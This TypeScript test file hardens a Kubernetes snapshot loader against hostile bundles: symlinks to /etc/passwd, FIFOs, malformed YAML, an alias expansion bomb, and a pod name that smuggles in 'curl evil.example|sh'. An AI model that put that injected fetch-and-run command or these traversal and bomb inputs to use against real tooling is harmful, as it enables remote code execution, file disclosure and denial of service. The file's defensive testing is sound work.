import { execFileSync } from 'node:child_process';
import { mkdtemp, mkdir, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { diagnoseSnapshot } from '../../shared/diagnosis/engine.js';
import { BundleError, loadBundle } from '../../shared/snapshot/bundle.js';
import { amlService } from '../support/fixtureKit/kit.js';
import { kubectlYaml } from '../support/fixtureKit/write.js';

const svc = amlService({ name: 'churn-svc', createdAt: '2024-05-01T10:00:00Z' });
const pod = svc.pods[0]!;
const podName = pod.metadata!.name!;
const yaml = kubectlYaml([svc.deployment, svc.replicaSet, pod]);
const meta = JSON.stringify({ service: 'churn-svc', capturedAt: '2024-05-01T10:30:00Z' });

async function bundle(files: Record<string, string>): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'amlmon-hostile-'));
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(join(dir, rel, '..'), { recursive: true });
    await writeFile(join(dir, rel), content);
  }
  return dir;
}

describe('loadBundle on hostile bundles: named gaps, never a crash or a hang', () => {
  it('does not follow a log that is a symlink (to /etc/passwd), nor a dangling one', async () => {
    const dir = await bundle({ 'snapshot.yaml': yaml, 'meta.json': meta });
    await mkdir(join(dir, 'logs', podName), { recursive: true });
    await symlink('/etc/passwd', join(dir, 'logs', podName, 'inference-server.log'));
    await symlink('/nonexistent/x', join(dir, 'logs', podName, 'gone.log'));
    const s = await loadBundle(dir);
    expect(s.logs.size).toBe(0);
    expect(s.meta.gaps).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/inference-server\.log: is a symbolic link .*not read/),
        expect.stringMatching(/gone\.log: is a symbolic link/),
      ]),
    );
    expect(JSON.stringify(diagnoseSnapshot(s))).not.toContain('root:x:0:0');
  });

  it('does not hang on a FIFO named x.log, and names a directory named x.log', async () => {
    const dir = await bundle({ 'snapshot.yaml': yaml, 'meta.json': meta });
    await mkdir(join(dir, 'logs', podName, 'dir.log'), { recursive: true });
    execFileSync('mkfifo', [join(dir, 'logs', podName, 'fifo.log')]);
    execFileSync('mkfifo', [join(dir, 'build.log')]);
    const s = await loadBundle(dir, { readBuildLog: () => Promise.reject(new Error('must not be called')) });
    expect(s.meta.gaps).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/fifo\.log: is a named pipe \(FIFO\)/),
        expect.stringMatching(/dir\.log: is a directory/),
        expect.stringMatching(/build\.log: is a named pipe/),
      ]),
    );
  });

  it('skips a non-UTF-8 file name with a gap', async () => {
    const dir = await bundle({
      'snapshot.yaml': yaml,
      'meta.json': meta,
      [`logs/${podName}/ok.log`]: 'fine\n',
    });
    execFileSync('sh', ['-c', `printf 'x' > "$1/logs/$2/$(printf 'bad\\377name').log"`, 'sh', dir, podName]);
    const s = await loadBundle(dir);
    expect(s.logs.size).toBe(1);
    expect(s.meta.gaps?.some((g) => /not UTF-8; skipped/.test(g))).toBe(true);
  });

  it('refuses a snapshot.yaml that is a symlink with a BundleError', async () => {
    const dir = await bundle({ 'meta.json': meta });
    await symlink('/etc/hostname', join(dir, 'snapshot.yaml'));
    await expect(loadBundle(dir)).rejects.toThrow(/snapshot\.yaml: is a symbolic link/);
  });

  it('turns wrong types into named gaps: containerStatuses as a map, restartCount "abc"', async () => {
    const bad = yaml
      .replace(/restartCount: \d+/, 'restartCount: abc')
      .replace(/conditions:/, 'conditions: {}\n    xconditions:');
    const mapStatuses = `---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: odd-pod\n  namespace: x\nstatus:\n  containerStatuses:\n    a: 1\n`;
    const s = await loadBundle(await bundle({ 'snapshot.yaml': bad + mapStatuses, 'meta.json': meta }));
    const gaps = s.meta.gaps ?? [];
    expect(gaps.some((g) => /restartCount "abc" is not a count/.test(g))).toBe(true);
    expect(gaps.some((g) => /Pod odd-pod: status\.containerStatuses is not a list; ignored/.test(g))).toBe(
      true,
    );
    const d = diagnoseSnapshot(s);
    expect(JSON.stringify(d)).not.toContain('abc restarts');
  });

  it('names a duplicate key as a gap', async () => {
    const dup = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  name: b\n  namespace: x\n';
    const s = await loadBundle(await bundle({ 'snapshot.yaml': dup }));
    expect(s.meta.gaps?.some((g) => /a key appears twice/.test(g))).toBe(true);
  });

  it('stops an alias expansion bomb quickly with a BundleError', async () => {
    const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 30; i++)
      lines.push(
        `a${i}: &a${i} [${Array(10)
          .fill(`*a${i - 1}`)
          .join(', ')}]`,
      );
    const bomb = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bomb\ndata:\n${lines.map((l) => `  ${l}`).join('\n')}\n`;
    const t = Date.now();
    await expect(loadBundle(await bundle({ 'snapshot.yaml': bomb }))).rejects.toBeInstanceOf(BundleError);
    expect(Date.now() - t).toBeLessThan(5_000);
  });

  it('ignores an event time far in the future, with a gap', async () => {
    const ev = `---\napiVersion: v1\nkind: Event\nmetadata:\n  name: e-future\n  namespace: x\ninvolvedObject:\n  kind: Pod\n  name: ${podName}\nreason: Pulled\nmessage: ok\nlastTimestamp: "9999-12-31T00:00:00Z"\n`;
    const s = await loadBundle(await bundle({ 'snapshot.yaml': yaml + ev, 'meta.json': meta }));
    expect(s.meta.gaps?.some((g) => /event e-future: lastTimestamp after the capture; ignored/.test(g))).toBe(
      true,
    );
    expect(s.events.find((e) => e.metadata?.name === 'e-future')?.lastTimestamp).toBeUndefined();
  });
});

describe('loadBundle fuzz (property): a result or a BundleError, nothing else', () => {
  it('random snapshot.yaml / meta.json / service.json', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'amlmon-fuzz-'));
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string(),
          fc.constant(yaml),
          fc.jsonValue().map((v) => kubectlYaml([v])),
        ),
        fc.oneof(
          fc.constant(meta),
          fc.string(),
          fc.jsonValue().map((v) => JSON.stringify(v)),
        ),
        fc.oneof(
          fc.constant('{}'),
          fc.string(),
          fc.jsonValue().map((v) => JSON.stringify(v)),
        ),
        async (snap, m, service) => {
          await writeFile(join(dir, 'snapshot.yaml'), snap);
          await writeFile(join(dir, 'meta.json'), m);
          await writeFile(join(dir, 'service.json'), service);
          try {
            const s = await loadBundle(dir);
            diagnoseSnapshot(s);
          } catch (err) {
            expect(err).toBeInstanceOf(BundleError);
            expect((err as Error).message.length).toBeGreaterThan(10);
          }
        },
      ),
      { numRuns: Number(process.env.AMLMON_FUZZ_RUNS ?? 150) },
    );
  });
});

describe('names that could not exist in a cluster', () => {
  it('skips an object whose name carries shell syntax, so it never reaches a suggested command', async () => {
    const evil = yaml.replaceAll(podName, 'x; curl evil.example|sh');
    const s = await loadBundle(await bundle({ 'snapshot.yaml': evil, 'meta.json': meta }));
    expect(s.pods).toHaveLength(0);
    expect(
      s.meta.gaps?.some((g) => /metadata\.name is not a valid Kubernetes name; object skipped/.test(g)),
    ).toBe(true);
    expect(JSON.stringify(diagnoseSnapshot(s).map((d) => d.findings))).not.toContain('curl evil');
  });
});
